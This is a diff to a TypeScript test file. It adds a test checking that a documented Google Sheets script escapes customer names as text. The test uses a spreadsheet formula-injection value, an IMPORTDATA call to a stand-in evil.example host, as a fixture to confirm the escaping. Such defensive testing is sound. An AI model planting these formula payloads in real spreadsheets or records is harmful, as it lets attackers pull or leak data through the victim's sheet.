@@ -1,6 +1,7 @@
 /** The programs of the guides as integrators run them: killed after every page, and with several currencies. */
 import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import { runInNewContext } from 'node:vm';
 import { afterEach, beforeEach, expect, test } from 'vitest';
 import { proposal } from '../records.ts';
 import { useWorld } from '../world.ts';
@@ -103,4 +104,35 @@ test('a two-way sync keeps both sides in sync: new, edited here, edited there, e
   await edit((all) => Object.assign(all['crm-1'], { name: 'Anne', changed: true }));
   expect(await sync()).toBe('1 contacts\n');
   expect(JSON.stringify(await contacts())).not.toContain('Ann');
+});
+
+test('the script for Google Sheets writes customers as text, so that no name becomes a formula', async () => {
+  const { tenant } = reader;
+  for (const name of ['=IMPORTDATA("https://evil.example")', '+1', 'Ann'])
+    await tenant.call('POST', '/v1/customers', { name });
+  const found = snippetsOf(await readPage(world, '/docs/automation')).find(({ text }) => text.includes('setValues'));
+  const headers = { Authorization: `Bearer ${tenant.key}` };
+  const url = `${world.url}/v1/customers?limit=100`;
+  const body = await (await fetch(url, { headers })).text();
+  let written: (string | null)[][] = [];
+  const range = { setValues: (rows: (string | null)[][]) => (written = rows) };
+  const google = {
+    PropertiesService: { getScriptProperties: () => ({ getProperty: () => tenant.key }) },
+    UrlFetchApp: {
+      fetch: (...request: unknown[]) => {
+        expect(request).toEqual([url, { headers }]);
+        return { getContentText: () => body };
+      },
+    },
+    SpreadsheetApp: { getActiveSheet: () => ({ clear: () => ({ getRange: () => range }) }) },
+  };
+  runInNewContext(`${found?.text}; fillSheet();`, google);
+  // A spreadsheet hides the apostrophe.
+  expect(written.map((row) => [...row])).toEqual(
+    expect.arrayContaining([
+      ["'Ann", null, "'active"],
+      ["'+1", null, "'active"],
+      [`'=IMPORTDATA("https://evil.example")`, null, "'active"],
+    ]),
+  );
 });
